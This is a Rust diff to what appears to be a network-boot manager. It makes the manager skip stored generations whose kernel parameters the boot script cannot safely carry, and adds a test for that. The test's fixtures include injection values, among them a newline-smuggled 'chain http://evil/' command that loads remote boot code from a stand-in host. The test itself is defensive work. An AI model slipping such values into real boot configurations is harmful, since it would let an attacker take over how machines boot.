@@ -138,7 +138,24 @@ impl CurrentGenerations {
         }
         for host in store.generation_hosts()? {
             let pinned = store.pinned_generation(&host)?;
-            let all = store.generations(&host)?;
+            // A generation the boot script could not carry (stored before its values were
+            // checked) is never booted: the one before it is current instead.
+            let all: Vec<_> = store
+                .generations(&host)?
+                .into_iter()
+                .filter(|g| {
+                    let problems = crate::generation::generation_problems(g);
+                    if !problems.is_empty() {
+                        tracing::warn!(
+                            host = ?g.host,
+                            generation = g.number,
+                            problems = %crate::discover::unbootable_values(&problems),
+                            "a generation is not booted"
+                        );
+                    }
+                    problems.is_empty()
+                })
+                .collect();
             let current = match pinned {
                 Some(n) if all.iter().any(|g| g.number == n) => Some(n),
                 _ => all.last().map(|g| g.number),
@@ -281,6 +298,28 @@ mod tests {
             "{}",
             path.cmdline
         );
+    }
+
+    /// A generation stored before its values were checked (kernel parameters the boot script
+    /// cannot carry) is not booted: the one before it stays current, and every other is kept.
+    #[test]
+    fn a_stored_generation_the_boot_script_cannot_carry_is_never_current() {
+        let tmp = tempfile::tempdir().unwrap();
+        let store = Store::open(tmp.path()).unwrap();
+        store.put_flake(&flake("lab", &["alpha"])).unwrap();
+        let good = store
+            .add_generation(&generation("lab#alpha", Some("aaaa")))
+            .unwrap();
+        for bad in ["root=${x}", "||", "a\nchain http://evil/"] {
+            let mut g = generation("lab#alpha", Some("bbbb"));
+            g.kernel_params.push(bad.into());
+            store.add_generation(&g).unwrap();
+        }
+        let cat = CurrentGenerations::load(&store).unwrap();
+        let alpha = cat.boot("alpha", false).unwrap().unwrap();
+        assert_eq!(alpha.generation, good.number);
+        assert_eq!(cat.hosts().len(), 1);
+        assert!(cat.generation("lab#alpha", good.number + 1).is_none());
     }
 
     #[test]
